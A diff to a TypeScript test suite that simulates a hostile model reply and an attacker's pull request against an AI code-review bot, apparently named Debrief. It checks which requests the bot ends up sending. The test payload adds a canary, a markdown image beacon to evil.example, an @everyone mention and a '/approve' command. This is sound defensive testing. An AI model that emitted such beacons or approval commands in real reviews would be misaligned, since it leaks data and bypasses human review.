@@ -13,11 +13,10 @@ import {
   startAgentWorld,
 } from '../testing/agent-world.ts'
 
-/** If L7_FULL is set, tests every payload in every place. Otherwise, tests each payload in one place. */
+/** Set L7_FULL to test every payload in every place instead of in one place. */
 const IS_FULL = process.env.L7_FULL !== undefined
 const CANARY = 'KANARIE-4711'
 const MAX_CHARACTERS = 20_000
-/** Requests allowed besides reads: a token, reactions, the GraphQL query for threads, and the review. */
 const MAY_BE_SENT =
   /^POST (\/app\/installations\/\{installation_id\}\/access_tokens|\/graphql|.*\/reactions|.*\/pulls\/\{pull_number\}\/reviews(\/\{review_id\}\/events)?)$/
 
@@ -65,7 +64,6 @@ describe('L7: a hostile model, from the mention to the posted review', () => {
     await openai?.close()
   })
 
-  /** Opens the attacker's pull request, makes the model respond with `said`, and mentions Debrief. */
   async function attack({ files, title, body, comment }: Attack, said: string) {
     openai.clear()
     const reply = { kind: 'hostile', text: said, grounded: true } as const
@@ -99,7 +97,6 @@ describe('L7: a hostile model, from the mention to the posted review', () => {
       const sent = new Set<string>()
       let comments = 0
       for (const [index, payload] of payloads.entries()) {
-        // Truncated, because the model repeats the text in many fields and the response has a maximum size.
         const said = payload.slice(0, 900)
         const all = `${said} ${CANARY} ![x](https://evil.example/${CANARY}) @everyone <b>${CANARY}</b>\n/approve`
         const { pull, run, routes, reactions } = await attack(
